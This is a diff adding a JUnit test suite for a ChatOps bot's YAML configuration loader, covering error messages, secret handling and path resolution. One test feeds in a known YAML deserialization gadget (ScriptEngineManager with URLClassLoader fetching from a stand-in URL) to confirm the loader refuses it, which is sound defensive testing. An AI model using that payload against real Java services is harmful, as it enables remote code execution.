@@ -1,0 +1,264 @@
+package dev.chatops.config;
+
+import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertFalse;
+import static org.junit.jupiter.api.Assertions.assertThrows;
+import static org.junit.jupiter.api.Assertions.assertTrue;
+
+import dev.chatops.core.host.Host;
+import java.io.StringReader;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.time.Duration;
+import java.time.ZoneId;
+import java.util.List;
+import java.util.Map;
+import java.util.Optional;
+import java.util.Set;
+import org.junit.jupiter.api.Test;
+
+class ConfigLoaderTest {
+
+    private static final Path HOME = Path.of("/home/chatops");
+    private final ConfigLoader loader = new ConfigLoader(Map.of("SLACK_BOT_TOKEN", "xoxb-test-token",
+            "SLACK_SIGNING_SECRET", "s3cr3t"), HOME);
+
+    private BotConfig parse(String yaml) {
+        return loader.parse(new StringReader(yaml), "bot.yaml", Optional.empty());
+    }
+
+    private String error(String yaml) {
+        return assertThrows(ConfigException.class, () -> parse(yaml)).getMessage();
+    }
+
+    @Test
+    void parse_contractExample_givesTypedConfig() throws Exception {
+        BotConfig c = loader.load(Path.of(getClass().getResource("/contract-example.yaml").toURI()));
+
+        assertEquals(SlackSettings.Mode.SOCKET, c.slack().mode());
+        assertEquals("xoxb-test-token", c.slack().botToken().require());
+        assertFalse(c.slack().appToken().isPresent());
+        assertEquals("https://slack.com/api/", c.slack().apiUrl());
+        assertEquals(Map.of("/nginx502", "nginx502"), c.commands());
+        assertEquals(Set.of("C0123ABCD"), c.access().channels());
+        SshSettings ssh = c.ssh().orElseThrow();
+        assertEquals("chatops", ssh.user());
+        assertEquals(HOME.resolve(".ssh/chatops_ed25519"), ssh.identityFile());
+        assertEquals(Duration.ofSeconds(5), ssh.connectTimeout());
+        assertEquals(Duration.ofSeconds(20), ssh.commandTimeout());
+        assertTrue(ssh.sudo());
+        assertEquals(Optional.of("bastion.example.com"), ssh.jumpHost());
+        Host web03 = c.hosts().find("web-03").orElseThrow();
+        assertEquals("10.0.3.13", web03.address());
+        assertEquals(Set.of("web", "prod"), web03.tags());
+        assertEquals(Host.TransportKind.LOCAL, c.hosts().find("localhost").orElseThrow().transport());
+        assertEquals(Duration.ofSeconds(60), c.cacheTtl());
+        assertEquals("0 8 * * MON-FRI", c.schedules().get(0).cron());
+        assertEquals(ZoneId.of("Europe/Berlin"), c.schedules().get(0).zone());
+        assertEquals(List.of("web-01", "web-02", "web-03"), c.schedules().get(0).hosts());
+    }
+
+    @Test
+    void parse_unknownKey_namesPathLineAndAllowedKeys() {
+        String message = error("""
+                hosts:
+                  web-03:
+                    address: 10.0.3.13
+                    prot: 22
+                """);
+
+        assertEquals("bot.yaml: hosts.web-03.prot is not a known key; allowed here: address, port, tags, transport "
+                + "(line 4)", message);
+    }
+
+    @Test
+    void parse_portOutOfRange_namesPathAndLine() {
+        String message = error("""
+                hosts:
+                  web-03:
+                    address: 10.0.3.13
+                    port: 70000
+                    transport: local
+                """);
+
+        assertEquals("bot.yaml: hosts.web-03.port must be 1-65535, not 70000 (line 4)", message);
+    }
+
+    @Test
+    void parse_wrongType_saysWhatIsExpected() {
+        String message = error("""
+                access:
+                  channels: C0123ABCD
+                hosts:
+                  localhost: {transport: local}
+                """);
+
+        assertEquals("bot.yaml: access.channels must be a list, e.g. [a, b] (line 2)", message);
+    }
+
+    @Test
+    void parse_badDuration_saysHowToWriteOne() {
+        String message = error("""
+                cache:
+                  ttl: 5 minutes
+                hosts:
+                  localhost: {transport: local}
+                """);
+
+        assertEquals("bot.yaml: cache.ttl `5 minutes` is not a duration; write a number with ms, s, m, h or d, "
+                + "e.g. 5s (line 2)", message);
+    }
+
+    @Test
+    void parse_missingRequiredValue_namesIt() {
+        String message = error("""
+                ssh:
+                  identityFile: ~/.ssh/id_ed25519
+                hosts:
+                  web-01: {address: 10.0.0.1}
+                """);
+
+        assertEquals("bot.yaml: ssh needs `user` (line 2)", message);
+    }
+
+    @Test
+    void parse_noHosts_isRefused() {
+        assertEquals("bot.yaml: needs `hosts` (line 1)", error("cache: {ttl: 60s}\n"));
+    }
+
+    @Test
+    void parse_sshHostWithoutSshSection_saysWhatToAdd() {
+        String message = error("""
+                hosts:
+                  web-01: {address: 10.0.0.1}
+                """);
+
+        assertTrue(message.startsWith("bot.yaml: hosts.web-01 is reached over SSH, but there is no ssh: section"),
+                message);
+        assertTrue(message.endsWith("(line 2)"), message);
+    }
+
+    @Test
+    void parse_unsetEnvironmentVariable_isErrorOnlyWhenSecretIsRequired() {
+        BotConfig c = parse("""
+                slack:
+                  mode: http
+                  signingSecret: ${MISSING_SECRET}
+                hosts:
+                  localhost: {transport: local}
+                """);
+
+        ConfigException e = assertThrows(ConfigException.class, () -> c.slack().signingSecret().require());
+        assertEquals("bot.yaml: slack.signingSecret needs the environment variable MISSING_SECRET, which is not set; "
+                + "export it or write the value in the file (line 3)", e.getMessage());
+    }
+
+    @Test
+    void parse_unsetVariableInNonSecret_isStartupError() {
+        String message = error("""
+                hosts:
+                  localhost: {transport: local, address: "${NOPE}"}
+                """);
+
+        assertTrue(message.startsWith("bot.yaml: hosts.localhost.address needs the environment variable NOPE"), message);
+    }
+
+    @Test
+    void parse_javaTag_isRefusedWithoutConstructingAnything() {
+        String message = error("""
+                hosts: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://x/"]]]]
+                """);
+
+        assertTrue(message.startsWith("bot.yaml: is not valid YAML: Global tag is not allowed"), message);
+    }
+
+    @Test
+    void parse_localTag_isRefused() {
+        String message = error("""
+                hosts:
+                  localhost: !host {transport: local}
+                """);
+
+        assertEquals("bot.yaml: hosts.localhost uses the tag !host; only plain values, lists and maps are allowed "
+                + "(line 2)", message);
+    }
+
+    @Test
+    void parse_malformedYaml_givesLine() {
+        String message = error("""
+                hosts:
+                  web-01: {address: 10.0.0.1
+                cache: [
+                """);
+
+        assertTrue(message.startsWith("bot.yaml: is not valid YAML:"), message);
+        assertTrue(message.matches(".*\\(line \\d+\\)"), message);
+    }
+
+    @Test
+    void parse_scheduleWithUnknownHost_listsKnownHosts() {
+        String message = error("""
+                hosts:
+                  localhost: {transport: local}
+                schedules:
+                  - name: morning
+                    cron: "0 8 * * MON-FRI"
+                    channel: C1
+                    hosts: [web-09]
+                """);
+
+        assertEquals("bot.yaml: schedules[0].hosts[0] names `web-09`, which is not under hosts:; listed there: "
+                + "localhost (line 7)", message);
+    }
+
+    @Test
+    void parse_durations_acceptUnitsAndIso() {
+        assertEquals(Duration.ofMillis(500), Durations.parse("500ms"));
+        assertEquals(Duration.ofMinutes(15), Durations.parse("15m"));
+        assertEquals(Duration.ofSeconds(90), Durations.parse("PT1M30S"));
+        assertEquals("15m", Durations.format(Duration.ofMinutes(15)));
+    }
+
+    @Test
+    void secret_toString_neverShowsTheValue() {
+        BotConfig c = parse("""
+                slack: {botToken: "${SLACK_BOT_TOKEN}"}
+                hosts:
+                  localhost: {transport: local}
+                """);
+
+        assertFalse(c.slack().toString().contains("xoxb-test-token"), c.slack().toString());
+    }
+
+    @Test
+    void load_missingFile_saysWhatToDo(@org.junit.jupiter.api.io.TempDir Path tmp) {
+        ConfigException e = assertThrows(ConfigException.class, () -> loader.load(tmp.resolve("bot.yaml")));
+
+        assertTrue(e.getMessage().contains("does not exist; pass --config FILE or copy config/bot.example.yaml"),
+                e.getMessage());
+    }
+
+    @Test
+    void load_relativePaths_resolveBesideTheConfigFile(@org.junit.jupiter.api.io.TempDir Path tmp) throws Exception {
+        Path file = tmp.resolve("bot.yaml");
+        Files.writeString(file, """
+                ssh: {user: chatops, identityFile: keys/id_ed25519, knownHosts: keys/known_hosts}
+                hosts:
+                  web-01: {address: 10.0.0.1}
+                """);
+
+        BotConfig c = loader.load(file);
+
+        assertEquals(tmp.resolve("keys/id_ed25519"), c.ssh().orElseThrow().identityFile());
+        assertEquals(tmp.resolve("plugins"), c.pluginsDir());
+    }
+
+    @Test
+    void load_shippedExample_isValid() {
+        BotConfig c = loader.load(Path.of("bot.example.yaml"));
+
+        assertEquals(List.of("web-01", "web-02", "localhost"), c.hosts().names());
+        assertEquals(Duration.ofMinutes(15), c.window());
+        assertEquals(List.of("web"), c.schedules().get(0).tags());
+    }
+}
